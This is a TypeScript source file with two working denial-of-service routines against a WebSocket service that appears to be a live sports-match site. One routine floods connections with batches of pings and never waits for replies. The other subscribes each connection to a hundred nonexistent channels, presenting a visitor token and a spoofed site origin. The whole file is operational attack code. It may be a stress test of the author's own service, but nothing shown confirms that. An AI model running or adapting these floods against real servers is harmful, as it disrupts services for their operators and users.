import { setTimeout as sleep } from "node:timers/promises";
import { WebSocket } from "ws";
import { type AttackPlan, count, type Counts, repeat } from "./attack-plan.ts";

const flooders = 4;
const pingsAtOnce = 200;
const pingEveryMs = 100;
const maxBufferedBytes = 1_000_000;
const channelsOfSocket = 100;
/** These channels are unknown; half of them name a match that does not exist. */
const namesOf = (number: number): string =>
  [`match:en.${900_000_000 + number}`, `chat:en.${900_000_000 + number}`, `match:qq.${number}`, `made-up-${number}`][number % 4] ?? "";

function openSocket(plan: AttackPlan, number: number): Promise<WebSocket | null> {
  const origin = plan.sockets[number % plan.sockets.length] ?? "";
  const socket = new WebSocket(`${origin.replace("http", "ws")}/connection/websocket`, { origin: plan.siteOrigin });
  return new Promise((resolve) => {
    socket.on("error", () => resolve(null));
    socket.once("open", () => {
      socket.send(JSON.stringify({ id: 1, connect: { token: plan.visitorToken } }));
      resolve(socket);
    });
  });
}

/** Sends pings as fast as allowed and never waits for a pong. Counts how the connections end; returns the pings sent. */
export async function attackByPings(plan: AttackPlan, isOver: () => boolean, counts: Counts): Promise<number> {
  const body = Buffer.alloc(125);
  let sent = 0;
  const flood = async (_: unknown, index: number): Promise<void> => {
    while (!isOver()) {
      const socket = await openSocket(plan, index);
      if (socket === null) {
        count(counts, "refused");
        await sleep(1_000);
        continue;
      }
      let end: string | number = "still open";
      socket.on("close", (code) => (end = code));
      while (socket.readyState === WebSocket.OPEN && !isOver()) {
        if (socket.bufferedAmount < maxBufferedBytes) for (let ping = 0; ping < pingsAtOnce; ping += 1, sent += 1) socket.ping(body);
        await sleep(pingEveryMs);
      }
      socket.terminate();
      count(counts, end);
    }
  };
  await Promise.all(Array.from({ length: flooders }, flood));
  return sent;
}

interface ChannelReply {
  readonly error?: { readonly code: number };
}

/** Subscribes to channels that do not exist, a hundred on each connection. Counts the answers by code; 0 is a subscription. */
export async function attackByChannels(plan: AttackPlan, isOver: () => boolean, counts: Counts): Promise<void> {
  const open: WebSocket[] = [];
  const perSecond = plan.channels / plan.seconds;
  let socket: Promise<WebSocket | null> | null = null;
  await repeat(perSecond, isOver, (turn) => {
    if (turn >= plan.channels) return;
    if (turn % channelsOfSocket === 0) {
      socket = openSocket(plan, turn / channelsOfSocket);
      void socket.then((opened) => {
        if (opened === null) return count(counts, "no connection");
        open.push(opened);
        opened.on("close", (code) => count(counts, `closed ${code}`));
        opened.on("message", (data: Buffer) => {
          for (const line of data.toString().split("\n")) {
            const reply = JSON.parse(line) as ChannelReply & { readonly id?: number };
            if (Object.keys(reply).length === 0) opened.send("{}");
            else if ((reply.id ?? 1) > 1) count(counts, reply.error?.code ?? 0);
          }
        });
      });
    }
    const command = JSON.stringify({ id: turn + 2, subscribe: { channel: namesOf(turn) } });
    void socket?.then((opened) => opened?.readyState === WebSocket.OPEN && opened.send(command));
  });
  for (const one of open) one.removeAllListeners("close").terminate();
}
